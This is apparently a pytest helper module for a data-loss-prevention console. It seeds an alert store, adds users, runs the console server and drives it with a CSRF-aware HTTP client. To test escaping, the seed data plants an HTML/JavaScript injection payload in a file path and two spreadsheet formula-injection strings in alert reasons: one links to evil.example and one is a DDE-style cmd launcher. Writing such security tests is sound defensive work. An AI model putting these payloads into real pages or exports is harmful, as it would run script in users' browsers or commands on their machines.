"""The console under test: a seeded store, accounts made by the CLI, the real server.

``seed_store`` raises real alerts through ``dlpd.store.alerts.raise_alert`` (250 on label
``itar`` under ``ITAR_PREFIX``, others on other labels and hosts, one whose path holds
HTML, one whose redacted preview hides ``SECRET``, two whose reason a spreadsheet would run
as a formula). ``add_user`` goes through ``dlpd console user add --password-stdin``.
``ConsoleServer`` runs ``dlpd console`` as a subprocess on a free loopback port and fails
the test with the server's stderr when it dies or logs a traceback.
"""

from __future__ import annotations

import os
import re
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from sqlalchemy import Connection

from dlpd.classify.validators.luhn import redact
from dlpd.model import (
    Actor,
    Alert,
    AlertDetails,
    AlertStatus,
    Confidence,
    Detection,
    Origin,
    Severity,
)
from dlpd.store import alerts as repo
from dlpd.store.db import open_engine, transaction

DLPD = (sys.executable, "-m", "dlpd")
ITAR_PREFIX = "/srv/projects/hypersonic"
ITAR_COUNT = 250
XSS = "<img src=x onerror=alert(1)>"
# A Luhn-valid card number: the store holds only redact(SECRET); these must never appear.
SECRET = "4539 1488 0343 6467"
SECRET_LEAKS = ("4539148803436467", "1488 0343", "14880343", "1488-0343")
FORMULAS = ('=HYPERLINK("https://evil.example/?x","open")', "  @SUM(1+1)*cmd|' /C calc'!A0")
PASSWORDS = {"vera": "viewer passphrase 11", "ana": "analyst passphrase 22",
             "adam": "admin passphrase 33"}
ROLES = {"vera": "viewer", "ana": "analyst", "adam": "admin"}
DAY = 86400.0


@dataclass(frozen=True, slots=True)
class Seeded:
    """Ids of the alerts tests look for (all open when seeded)."""

    itar: tuple[int, ...]  # ascending; itar[0] has full details (provenance, actor)
    others: tuple[int, ...]
    xss: int
    secret: int
    formulas: tuple[int, ...]  # itar alerts whose reason starts a formula


def _sha(n: int) -> str:
    return f"{n:064x}"


def _itar(i: int, now: float) -> Alert:
    source = f"/data/itar/master/run{i:03d}/wing-{i}.dwg"
    details = AlertDetails(
        size=40960 + i, mtime=now - 3 * DAY, uid=1001, gid=100, owner="alice", group="eng",
        mime="application/acad",
        detections=(Detection(rule="itar_marking", category="export-control",
                              confidence=Confidence.HIGH, count=2,
                              previews=("ITAR ****", "22 CFR ***")),),
        origin=Origin(kind="copy", source_path=source, source_host="lab-fs-01",
                      set_by="carol", set_at=now - 30 * DAY),
        actor=Actor(pid=4242 + i, uid=1001, user="alice", gid=100, ppid=1,
                    exe="/usr/bin/cp", cmdline=f"cp {source} {ITAR_PREFIX}/run{i:03d}/"))
    reason = "label itar may only live under /data/itar"
    if i in (7, 8):
        reason = FORMULAS[i - 7]
    path = f"{ITAR_PREFIX}/run{i % 40:03d}/wing-{i}.dwg"
    return Alert(id=0, created=now - DAY * (i % 20) - i, updated=0.0, host="lab-fs-01",
                 path=path, sha256=_sha(i), label="itar", labels=("itar",),
                 categories=("export-control",), rules=("itar_marking",),
                 severity=Severity.HIGH if i % 3 else Severity.CRITICAL, reason=reason,
                 provenance=f"copy of {source}", status=AlertStatus.OPEN, details=details)


def _other(n: int, path: str, label: str, host: str, now: float,
           details: AlertDetails | None = None) -> Alert:
    return Alert(id=0, created=now - DAY * (n % 30), updated=0.0, host=host, path=path,
                 sha256=_sha(10_000 + n), label=label, labels=(label,),
                 categories=("credit-card",) if label == "pii" else ("jp-confidential",),
                 rules=("card_number",) if label == "pii" else ("shagai_hi",),
                 severity=Severity.MEDIUM if n % 2 else Severity.LOW,
                 reason=f"label {label} may only live under /data/{label}", provenance=None,
                 status=AlertStatus.OPEN, details=details)


def seed_store(db: Path, now: float) -> Seeded:
    """A fresh store with the alerts of ``Seeded`` and 40 more on other labels and hosts."""
    engine = open_engine(f"sqlite:///{db}")

    def raise_one(conn: Connection, alert: Alert) -> int:
        stored = repo.raise_alert(conn, alert, ())
        assert stored is not None, alert.path
        return stored.id

    with transaction(engine) as conn:
        # Oldest first so ids grow with time, as a daemon raises them.
        drafts = sorted((_itar(i, now) for i in range(ITAR_COUNT)), key=lambda a: a.created)
        itar = [raise_one(conn, a) for a in drafts]
        formulas = tuple(i for i, a in zip(itar, drafts, strict=True)
                         if a.reason in FORMULAS)
        others = [raise_one(conn, _other(n, f"/home/u{n}/notes-{n}.txt",
                                         "pii" if n % 2 else "confidential",
                                         f"lab-ws-{n % 4:02d}", now)) for n in range(40)]
        xss = raise_one(conn, _other(100, f"/home/mallory/{XSS}/a.txt", "pii",
                                     "lab-ws-09", now))
        secret_details = AlertDetails(size=120, owner="bob", mime="text/plain", detections=(
            Detection(rule="card_number", category="credit-card",
                      confidence=Confidence.HIGH, count=1, previews=(redact(SECRET),)),))
        secret = raise_one(conn, _other(101, "/home/bob/cards.txt", "pii", "lab-ws-09",
                                        now, details=secret_details))
    engine.dispose()
    return Seeded(itar=tuple(sorted(itar)), others=tuple(others), xss=xss, secret=secret,
                  formulas=formulas)


def write_config(directory: Path, db: Path, console: str = "") -> Path:
    cfg = directory / "dlpd.toml"
    cfg.write_text(f'[database]\nurl = "sqlite:///{db}"\n\n[console]\n{console}\n')
    return cfg


def run_cli(cfg: Path, *args: str, stdin: str = "", timeout: float = 120) -> \
        subprocess.CompletedProcess[str]:
    return subprocess.run([*DLPD, *args, "--config", str(cfg)], input=stdin,
                          capture_output=True, text=True, timeout=timeout, check=False)


def add_user(cfg: Path, name: str, role: str, password: str) -> None:
    res = run_cli(cfg, "console", "user", "add", name, "--role", role, "--password-stdin",
                  stdin=password + "\n")
    assert res.returncode == 0, f"user add {name}: {res.returncode}\n{res.stderr}"


def copy_store(src: Path, dst: Path) -> None:
    """The database and whatever WAL is left beside it."""
    for suffix in ("", "-wal"):
        if Path(f"{src}{suffix}").exists():
            shutil.copy(f"{src}{suffix}", f"{dst}{suffix}")


def statuses(db: Path, ids: Iterable[int]) -> dict[int, str]:
    """What the store says, read beside the server (WAL: readers do not block)."""
    wanted = list(ids)
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
        rows = conn.execute(f"SELECT id, status FROM alerts WHERE id IN "
                            f"({','.join('?' * len(wanted))})", wanted).fetchall()
    return {int(i): str(s) for i, s in rows}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class ConsoleServer:
    """``dlpd console --config CFG --listen 127.0.0.1:PORT``, in its own process group."""

    def __init__(self, cfg: Path, logs: Path) -> None:
        self.cfg = cfg
        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        self._out = logs / f"console-{self.port}.out"
        self._err = logs / f"console-{self.port}.err"
        with self._out.open("wb") as out, self._err.open("wb") as err:
            self.proc = subprocess.Popen(
                [*DLPD, "console", "--config", str(cfg), "--listen", f"127.0.0.1:{self.port}"],
                stdin=subprocess.DEVNULL, stdout=out, stderr=err, start_new_session=True,
                env={**os.environ, "PYTHONFAULTHANDLER": "1"})
        self._wait_ready(timeout=60.0)

    def output(self) -> str:
        return (self._out.read_text(errors="replace") + self._err.read_text(errors="replace"))

    def _fail(self, why: str) -> None:
        pytest.fail(f"dlpd console {why}; its output:\n{self.output()[-6000:]}")

    def _wait_ready(self, timeout: float) -> None:
        deadline = time.monotonic() + timeout
        url = f"http://127.0.0.1:{self.port}"
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                self._fail(f"exited with {self.proc.returncode} before serving")
            if url in self.output():
                try:
                    socket.create_connection(("127.0.0.1", self.port), timeout=1).close()
                    return
                except OSError:
                    pass
            time.sleep(0.05)
        self.stop()
        self._fail(f"printed no {url} line within {timeout:.0f}s")

    def check_alive(self) -> None:
        """Fail the test when the server died or logged a traceback (a 500 behind a page)."""
        if self.proc.poll() is not None:
            self._fail(f"died (exit code {self.proc.returncode})")
        if "Traceback (most recent call last)" in self.output():
            self._fail("logged a traceback")

    def stop(self) -> None:
        if self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait()


CSRF_META = re.compile(r'<meta name="csrf-token" content="([^"]+)"')
CSRF_INPUT = re.compile(r'name="csrf" value="([^"]*)"')


class WebClient:
    """httpx with the browser's cookie rules for this console: ``__Host-`` cookies are
    Secure, which Python's cookie jar never sends over plain http (Chromium does, on
    loopback), so the cookies are kept here. Every POST carries the console's own
    Origin unless told otherwise, and the session's CSRF token unless given one."""

    def __init__(self, base: str) -> None:
        self.base = base
        self.cookies: dict[str, str] = {}
        self.http = httpx.Client(base_url=base, follow_redirects=False, timeout=60)
        self.csrf = ""

    def _keep(self, response: httpx.Response) -> httpx.Response:
        for header in response.headers.get_list("set-cookie"):
            name, _, rest = header.partition("=")
            value = rest.split(";", 1)[0].strip('"')
            if "max-age=0" in header.lower() or not value:
                self.cookies.pop(name.strip(), None)
            else:
                self.cookies[name.strip()] = value
        if found := CSRF_META.search(response.text if _is_html(response) else ""):
            self.csrf = found.group(1)
        return response

    def headers(self, extra: dict[str, str] | None = None) -> dict[str, str]:
        return {"cookie": "; ".join(f"{k}={v}" for k, v in self.cookies.items()),
                **(extra or {})}

    def get(self, url: str, headers: dict[str, str] | None = None) -> httpx.Response:
        return self._keep(self.http.get(url, headers=self.headers(headers)))

    def post(self, url: str, data: dict[str, str | list[str]], *,
             origin: str | None = "", csrf: str | None = "") -> httpx.Response:
        """``origin``/``csrf``: "" = the right ones, None = none sent, else that value."""
        fields = dict(data)
        token = self.csrf if csrf == "" else csrf
        if token is not None:
            fields["csrf"] = token
        extra = {} if origin is None else {"origin": origin or self.base}
        return self._keep(self.http.post(url, data=fields, headers=self.headers(extra)))

    def login(self, name: str, password: str) -> httpx.Response:
        page = self.get("/login")
        found = CSRF_INPUT.search(page.text)
        assert page.status_code == 200 and found, f"login page: {page.status_code}"
        response = self.post("/login", {"name": name, "password": password, "next": ""},
                             csrf=found.group(1))
        if response.status_code == 303:
            self.get("/alerts")  # the session's CSRF token, from the page's meta
        return response

    def close(self) -> None:
        self.http.close()


def _is_html(response: httpx.Response) -> bool:
    return response.headers.get("content-type", "").startswith("text/html")
